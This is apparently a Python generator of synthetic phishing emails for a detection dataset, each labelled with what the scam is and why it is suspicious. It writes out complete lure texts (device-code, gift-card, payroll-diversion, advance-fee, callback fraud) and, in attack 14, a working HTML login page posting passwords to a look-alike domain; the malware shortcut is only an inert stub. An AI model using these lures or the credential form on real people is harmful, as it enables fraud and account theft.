"""attack/09-16 (English)."""
import base64

from lib import bodies, docs, ids, iso, mime, shapes, systems, templates, util
from lib.company import HCTV, P, SALT
from lib.registry import reg
from lib.util import addr, ew, local_to_utc, sec


@reg('attack', '09-en-docusign-abused-framework-agreement')
def a09(m):
    m.what = 'Real DocuSign envelope notification "Complete with Docusign: Saltmarsh_EG_Framework_Service_Agreement_2027.pdf", sender shown as Rachel Okafor'
    m.why = 'Genuine DocuSign infrastructure abused from an attacker account: the sender address and Reply-To are on the look-alike saltmarsh-renewables.co (customer uses saltmarshrenewables.co.uk); envelope document leads to a credential page'
    m.topic = 'e-signature'
    rcpt = P['craig'][1]
    t = local_to_utc('GB', 2026, 10, 6, 15, 2, 11)
    a, acct, er = util.guid(m.rng), util.guid(m.rng), util.guid(m.rng)
    link = 'https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (a, acct, er)
    m.url(link, 'DocuSign envelope (abused account)')
    code = m.hex(32, True) + '2'
    sender = 'rachel.okafor@saltmarsh-renewables.co'
    msg_text = ('Hi Craig,\n\nplease find the 2027 framework service agreement for the Humber sites with the revised day rates and the '
                'new standby clause. Could you review and sign by Friday so we can raise the PO before year end?\n\nMany thanks,\nRachel')
    text, html = templates.docusign('Rachel Okafor', sender, msg_text, link, code)
    root = mime.multipart('alternative', [mime.text(text, 'plain', 'utf-8', 'quoted-printable'),
                                          mime.text(html, 'html', 'utf-8', 'quoted-printable')], '----=_Part_%d_%d.%d' % (m.rng.randrange(10 ** 6, 10 ** 7), m.rng.randrange(10 ** 8, 10 ** 9), util.unix(t) * 1000 + 97))
    m.set_body(root)
    F = dict(from_=addr('Rachel Okafor via Docusign', 'dse@eumail.docusign.net', quote_always=True), from_addr='dse@eumail.docusign.net',
             reply_to=addr('Rachel Okafor', sender, quote_always=True), to=addr('Craig Robson', rcpt, quote_always=True),
             subject='Complete with Docusign: Saltmarsh_EG_Framework_Service_Agreement_2027.pdf', date=t, zone='UTC',
             msgid='<%s@docusign.net>' % m.hex(32))
    m.assemble(shapes.docusign(m, t, rcpt, F))


@reg('attack', '10-en-device-code-teams-workspace')
def a10(m):
    m.what = 'Compromised mailbox of the crew-transfer-vessel operator (Humber CTV) asks to "authorise the shared Teams workspace" at microsoft.com/devicelogin with code GQ4VZ7XLM'
    m.why = 'Device-code phishing: the link is Microsoft\'s real device login, the code belongs to an attacker-initiated session, so entering it hands over tokens for the Example Group account; sent from a real, compromised M365 tenant (all authentication passes)'
    m.topic = 'meeting-invite'
    rcpt = P['craig'][1]
    t = local_to_utc('GB', 2026, 10, 21, 10, 14, 37)
    m.url('https://microsoft.com/devicelogin', 'Microsoft device login (real site, attacker code)')
    m.fact('ID', 'GQ4VZ7XLM', 'device code')
    m.phone('+44 7700 900418', 'signature')
    text = """Hi Craig,

Following our call on Monday - I've set up the shared Teams workspace for the Q1 2027 crew transfer schedule and the updated CTV day rates (incl. the standby charges we discussed for your blade campaign).

Because it sits in our tenant, Microsoft asks external guests to authorise their device once:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: GQ4VZ7XLM
3. Sign in with your Example Group account and approve

The code runs out after 15 minutes, so if it has expired just reply and I'll send a fresh one - I'm at my desk all morning.

Cheers,
Gareth

Gareth Lowe
Operations Manager
Humber CTV Services Ltd
Royal Dock, Grimsby DN31 3LL
M: +44 7700 900418"""
    html = bodies.fill_charset(bodies.outlook_html(text, 'EN-GB', font='Aptos', size='12.0pt'), 'us-ascii')
    msgid_guess = None
    alt_b = '_000_%s_' % m.hex(40)
    root = mime.multipart('alternative', [mime.text(text, 'plain', 'us-ascii', 'quoted-printable'),
                                          mime.text(html, 'html', 'us-ascii', 'quoted-printable')], alt_b)
    m.set_body(root)
    frm = HCTV['people']['lowe']
    h, mid = systems.m365(m, t, rcpt, (frm[0], frm[1]), addr('Craig Robson', rcpt), 'Q1 2027 CTV schedule - Teams workspace access',
                          tenant_id='a3e1c9d2-7b45-4f08-9e6a-2c81d0f5b934', langs='en-GB, en-US', content_lang='en-GB',
                          lang_code='EN', edge=3, pre='LO2P265MB', region='GBRP265')
    m.assemble(h)


@reg('attack', '11-en-advance-fee-tender-registration')
def a11(m):
    m.what = 'Invitation to pre-qualify for O&M of two wind farms in Kazakhstan; contractors must buy a "Vendor Registration Certificate" (USD 3,850) through an "accredited agent"'
    m.why = 'Advance-fee fraud dressed as a government tender: ministry writing from outlook.com, fee to a private agent on Gmail/WhatsApp, unrealistic scope and urgency'
    m.topic = 'tender'
    rcpt = P['katrin'][1]
    t = local_to_utc('UTC', 2026, 11, 2, 6, 12, 9)
    m.phone('+7 701 418 2297', 'agent WhatsApp')
    text = """Dear Sir/Madam,

INVITATION TO PRE-QUALIFICATION
Operation & Maintenance services for 2 x 50 MW wind farms, Akmola region
Reference: MoE/RES/O&M/2026-118

On behalf of the Committee for Renewable Energy, we are pleased to inform you that your company has been shortlisted from the European supplier database to participate in the pre-qualification for a five (5) year full-service O&M contract (estimated value EUR 41.6 million) for two wind farms with 34 turbines in the Akmola region.

To be admitted to the technical and commercial stage, foreign contractors must hold a Vendor Registration Certificate (VRC) issued by the Ministry's accredited registration agent. The VRC fee is USD 3,850 and is non-refundable. The certificate is issued within 48 hours after payment.

Please contact the accredited agent directly for the registration form and payment instructions:
Mr. Daniyar Seitkali, Seitkali Consulting LLP
E-mail: d.seitkali.consult@gmail.com
WhatsApp: +7 701 418 2297

The deadline for submission of pre-qualification documents is 20 November 2026. Late submissions will not be considered.

Yours faithfully,

Dr. Yerlan Abenov
Head of Procurement Directorate
Committee for Renewable Energy
Astana, Republic of Kazakhstan"""
    html = bodies.fill_charset(bodies.outlook_html(text, 'EN-US', font='Calibri', size='11.0pt'), 'us-ascii')
    root = mime.multipart('alternative', [mime.text(text, 'plain', 'us-ascii', 'quoted-printable'),
                                          mime.text(html, 'html', 'us-ascii', 'quoted-printable')], '_000_%s_' % m.hex(40))
    m.set_body(root)
    frm = ('Procurement Directorate', 'procurement.res.energy.kz@outlook.com')
    edge = ('EUR05-DB8-obe.outbound.protection.outlook.com', 'mail-db8eur05olkn2094.outbound.protection.outlook.com', '40.92.89.94')
    h, mid = systems.m365(m, t, rcpt, frm, addr('Katrin Wessel', rcpt), 'Invitation to pre-qualification - Ref. MoE/RES/O&M/2026-118',
                          org_domain='outlook.com', tenant_id='84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa', langs='en-US',
                          content_lang='en-US', lang_code='EN', edge=edge, pre='PAXP192MB', region='EURP192',
                          dmarc_p='none', consumer=True)
    m.assemble(h)


@reg('attack', '12-en-callback-antivirus-renewal')
def a12(m):
    m.what = 'Fake "Norton 360" auto-renewal receipt for GBP 399.99 with a PDF invoice and a freephone number "to cancel within 24 hours"'
    m.why = 'Callback phishing (TOAD): no link, only a phone number that leads to a scam call centre / remote-access install; sent from a random Gmail account, vendor product not used by the company'
    m.topic = 'software-invoice'
    rcpt = P['sarah'][1]
    t = local_to_utc('GB', 2026, 10, 29, 9, 31, 14)
    m.phone('0808 157 0384', 'scam call centre')
    text = """Dear Customer,

Thank you for renewing your subscription. Your Norton 360 Deluxe (5 devices, 1 year) has been renewed successfully and the amount has been charged to the card on file.

Invoice number: NT-448172-UK
Order date: 29/10/2026
Amount: GBP 399.99
Payment method: Auto-debit

If you did not authorise this renewal or wish to cancel it, please contact our Billing Support within 24 hours to receive a full refund:

0808 157 0384 (Mon-Sat, 8am-8pm)

Please do not reply to this email, replies are not monitored.

Regards,
Billing Department"""
    html = bodies.gmail_html(text)
    pdfb = docs.letter_pdf(['NortonLifeLock Billing Centre'], ['Invoice to:', 'Customer ID 7741-0092-3318', 'sarah.whitfield@example.com'],
                           '29/10/2026', 'INVOICE NT-448172-UK',
                           'Thank you for your purchase. Your subscription has been renewed automatically.\n\n'
                           'Product: Norton 360 Deluxe - 5 devices - 12 months\nQuantity: 1\nUnit price: GBP 333.33\nVAT 20%: GBP 66.66\n'
                           'Total charged: GBP 399.99\n\nTo cancel this order and request a refund, call Billing Support: 0808 157 0384\n'
                           'Refund requests are only accepted within 24 hours of the charge.', ['Billing Department'],
                           ['This is a computer generated invoice and does not require a signature.'],
                           created=docs.pdfdate(t - sec(600), 'GB'), title='Invoice', creator='wkhtmltopdf 0.12.6', producer='Qt 4.8.7',
                           logo_text='Norton 360', head_color=(0.98, 0.76, 0.0))
    gb = docs.b_gmail(m)
    alt = mime.multipart('alternative', [mime.text(text, 'plain', 'UTF-8', '7bit'), mime.text(html, 'html', 'UTF-8', '7bit')], docs.b_gmail(m))
    aid = 'f_m' + util.alnum(m.rng, 7, 'abcdefghijklmnopqrstuvwxyz0123456789') + '0'
    att = mime.attachment(pdfb, 'application/pdf', 'Invoice_NT-448172-UK.pdf', style='gmail', cid=aid)
    root = mime.multipart('mixed', [alt, att], gb)
    m.set_body(root)
    frm = ('Norton Billing', 'billing.support.uk4471@gmail.com')
    h, mid = systems.gmail(m, t, rcpt, frm, rcpt, 'Your Subscription Renewed Successfully - Invoice NT-448172-UK', zone='GB')
    m.assemble(h)


@reg('attack', '13-en-gift-cards-ceo')
def a13(m):
    m.what = '"Henrik Petersen" (Gmail) asks the Hull office manager to buy 8 Apple gift cards at GBP 200 as a secret Christmas surprise and to email photos of the codes'
    m.why = 'Gift-card CEO fraud: free-mail address with the CEO\'s name, secrecy, "send photos of the codes", reimbursement promise; the real CEO writes from example.com and gifts go through purchasing'
    m.topic = 'gift'
    rcpt = P['sarah'][1]
    t = local_to_utc('GB', 2026, 12, 11, 12, 5, 41)
    text = """Hi Sarah,

Are you in the office today? I need a quick favour and I'm stuck in meetings in Husum all afternoon.

I want to surprise the Hull technicians who did the December campaign with a small thank-you before Christmas. Could you pick up 8 Apple gift cards at 200 GBP each (Tesco or Argos will have them)? Please keep it between us for now, it should be a surprise at the Christmas dinner.

Once you have them, scratch off the back and send me clear photos of the codes by email, I'll forward them with a personal note to each of the guys. Put it on expenses and I'll approve it.

Thanks a lot,
Henrik"""
    root = mime.multipart('alternative', [mime.text(text, 'plain', 'UTF-8', '7bit'), mime.text(bodies.gmail_html(text), 'html', 'UTF-8', '7bit')], docs.b_gmail(m))
    m.set_body(root)
    frm = ('Henrik Petersen', 'henrik.petersen.ceo@gmail.com')
    h, mid = systems.gmail(m, t, rcpt, frm, addr('Sarah Whitfield', rcpt), 'Quick favour', zone='GB')
    m.assemble(h)


@reg('attack', '14-en-rfq-html-login-attachment')
def a14(m):
    m.what = 'RFQ "Blade leading-edge repair services, Germany North" from "Vestas Global Sourcing" with an HTML attachment that shows a sign-in page to "open the secured RFQ documents"'
    m.why = 'HTML attachment credential phishing: the local HTML form posts the password to vws-rfq-portal.com; sender domain vestas-procurement.com is a look-alike sent through Mailgun; unsolicited RFQ with urgency'
    m.topic = 'tender'
    rcpt = P['katrin'][1]
    t = local_to_utc('CET', 2026, 11, 17, 8, 52, 3)
    action = 'https://vws-rfq-portal.com/secure/auth/submit.php'
    m.url(action, 'form target in the HTML attachment')
    m.phone('+45 9730 5512', 'fake buyer')
    text = """Dear Supplier,

Vestas Wind Systems A/S invites your company to submit a quotation for the following scope:

RFQ number: 2026-VWS-4471
Scope: Leading edge protection and blade repair services (rope access and platform), 118 turbines V112/V136, Germany North region
Contract period: 01.03.2027 - 28.02.2029 (option 1+1 years)
Submission deadline: 27 November 2026, 12:00 CET

The RFQ package (technical specification, price schedule, HSE requirements and draft contract) is attached as a secured document. Please open the attachment and authenticate with your company email account to access the documents.

Please confirm your intention to bid by reply.

Best regards

Mikkel Sørensen
Category Buyer Services - Northern Europe
Vestas Wind Systems A/S
Hedeager 42, 8200 Aarhus N, Denmark
Tel. +45 9730 5512"""
    html_att = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>RFQ 2026-VWS-4471 - Secured document</title>
<style>body{margin:0;background:#f2f2f2;font-family:'Segoe UI',Arial,sans-serif}.box{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:24px;font-weight:600;margin:16px 0}input{width:100%%;padding:6px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0}
.btn{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right}</style></head>
<body><div class="box">
<div style="font-size:13px;color:#555">Vestas Supplier Collaboration</div>
<h1>Sign in to view RFQ documents</h1>
<p style="font-size:13px">RFQ 2026-VWS-4471 &middot; 6 files (14.2 MB). Access is limited to invited suppliers. Verify your identity with your company account.</p>
<form method="post" action="%s">
<input type="email" name="login" value="%s">
<input type="password" name="passwd" placeholder="Password">
<input type="hidden" name="rfq" value="2026-VWS-4471">
<p style="font-size:13px"><a href="#">Forgot my password</a></p>
<button class="btn" type="submit">Sign in</button>
</form><div style="clear:both"></div></div></body></html>
""" % (action, rcpt)
    html_body = bodies.fill_charset(bodies.simple_html(text, font='Arial, sans-serif', size='10pt'), 'UTF-8')
    alt = mime.multipart('alternative', [mime.text(text, 'plain', 'UTF-8', 'quoted-printable', charset_label='UTF-8'),
                                         mime.text(html_body, 'html', 'UTF-8', 'quoted-printable', charset_label='UTF-8')], m.hex(32))
    att = mime.attachment(html_att.encode('utf-8'), 'text/html', 'RFQ_2026-VWS-4471_Secured.html', style='plain')
    root = mime.multipart('mixed', [alt, att], m.hex(32))
    m.set_body(root)
    frm = 'm.soerensen@vestas-procurement.com'
    F = dict(from_=addr('Vestas Global Sourcing', frm), from_addr=frm, to=rcpt,
             subject='RFQ 2026-VWS-4471 - Blade leading edge repair services, Germany North (deadline 27 Nov)', date=t)
    h, mid = shapes.mailgun(m, t, rcpt, F, 'mg.vestas-procurement.com', 'vestas-procurement.com')
    m.assemble(h)


@reg('attack', '15-en-payroll-bank-change-icloud')
def a15(m):
    m.what = '"Craig Robson" writes from a private iCloud address asking UK payroll to change his salary account to a Monzo account before the December run'
    m.why = 'Payroll diversion: private address not on file, "old account closing", "I\'m offshore, email is easiest" (avoids call-back); genuine changes are done by the employee in Personio'
    m.topic = 'payroll-change'
    rcpt = P['daniel'][1]
    t = local_to_utc('GB', 2026, 11, 23, 19, 48, 17)
    m.fact('Account', '04-00-04', 'UK sort code given (Monzo)')
    m.fact('Account', '71839264', 'UK account number given (mule)')
    text = """Hi Daniel,

Hope you're well. I've moved my current account over to Monzo, could you update my bank details for payroll before the December run?

Name: Craig Robson
Sort code: 04-00-04
Account no: 71839264

The old Barclays account is closing at the end of the month so please don't use that one anymore. I'm offshore till Thursday with patchy signal so email is easiest.

Cheers
Craig

Sent from my iPhone"""
    root = mime.text(text, 'plain', 'us-ascii', '7bit', charset_label='us-ascii')
    m.set_body(root)
    frm = 'craig.robson76@icloud.com'
    F = dict(from_=addr('Craig Robson', frm), from_addr=frm, to=addr('Daniel Hughes', rcpt), subject='Bank details',
             date=t, zone='GB', msgid='<%s@icloud.com>' % util.guid(m.rng, True))
    m.assemble(shapes.icloud(m, t, rcpt, F))


@reg('attack', '16-en-dhl-customs-iso')
def a16(m):
    m.what = '"DHL Express" says a shipment from Shenzhen is held for customs and attaches "shipping documents" as a disk image (.iso) containing a shortcut named like a PDF'
    m.why = 'Malware loader: ISO with a .pdf.lnk inside (Mark-of-the-Web bypass); sender domain dhl-express-notify.com on a VPS, not dhl.com; the real DHL asks for customs data via MyDHL+/On Demand Delivery'
    m.topic = 'courier'
    rcpt = P['ole'][1]
    t = local_to_utc('CET', 2026, 12, 2, 7, 19, 50)
    lnk = docs.inert('Windows shortcut (.lnk) disguised as PDF inside an ISO image',
                     'would start a hidden command line that downloads and runs a loader (e.g. a DLL via rundll32) from a remote WebDAV share; '
                     'a decoy PDF would be shown to the user')
    isob = iso.make_iso([('DHL_AWB_7735018264_Customs_Invoice.pdf.lnk', 'DHL_AWB_7735018264.LNK', lnk)], 'DHL_AWB_7735018264',
                        dt=(2026, 12, 2, 6, 58, 12))
    text = """Dear Customer,

Your shipment with air waybill 7735018264 is currently held at the DHL Express gateway Leipzig (LEJ).

Reason: commercial invoice incomplete - customs clearance cannot be completed.

Shipment details
Origin: Shenzhen, CN
Destination: Husum, DE
Pieces: 2
Weight: 18.4 kg
Description: spare parts (electronic control boards)

Please review the attached shipping documents, complete the customs declaration and reply to this e-mail within 48 hours. If the documents are not received in time, the shipment will be returned to the sender at the shipper's expense.

Kind regards
DHL Express Customer Service Germany"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Frutiger,Arial,sans-serif;font-size:14px;color:#333">
<div style="background:#ffcc00;padding:14px 20px"><span style="color:#d40511;font-size:26px;font-weight:bold;font-style:italic">DHL</span> <span style="color:#d40511;font-weight:bold">EXPRESS</span></div>
<div style="padding:20px">""" + ''.join('<p>%s</p>' % util.html_escape(p).replace('\n', '<br>') for p in text.split('\n\n')) + """</div>
<div style="background:#333;color:#ccc;font-size:11px;padding:10px 20px">Deutsche Post DHL Group &middot; DHL Express Germany GmbH</div></body></html>
"""
    alt = mime.multipart('alternative', [mime.text(text, 'plain', 'utf-8', 'quoted-printable'), mime.text(html, 'html', 'utf-8', 'quoted-printable')],
                         '=_%s' % m.hex(32))
    att = mime.attachment(isob, 'application/x-iso9660-image', 'DHL_AWB_7735018264.iso', style='thunder')
    root = mime.multipart('mixed', [alt, att], '=_%s' % m.hex(32))
    m.set_body(root)
    frm = 'noreply@dhl-express-notify.com'
    F = dict(from_=addr('DHL Express', frm), from_addr=frm, to=rcpt,
             subject='DHL Express: customs documents required - AWB 7735018264', date=t,
             msgid='<%s@dhl-express-notify.com>' % m.hex(32), extra=[('X-Mailer', 'Roundcube Webmail/1.6.9')])
    h = shapes.postfix_server(m, t, rcpt, F, 'mail.dhl-express-notify.com', '198.51.100.142', client='localhost', client_ip='127.0.0.1',
                              auth='noreply@dhl-express-notify.com', dkim=('dhl-express-notify.com', 'mail', 'relaxed/relaxed'),
                              dmarc=('pass', 'none', 'none', 'dhl-express-notify.com'))
    m.assemble(h)
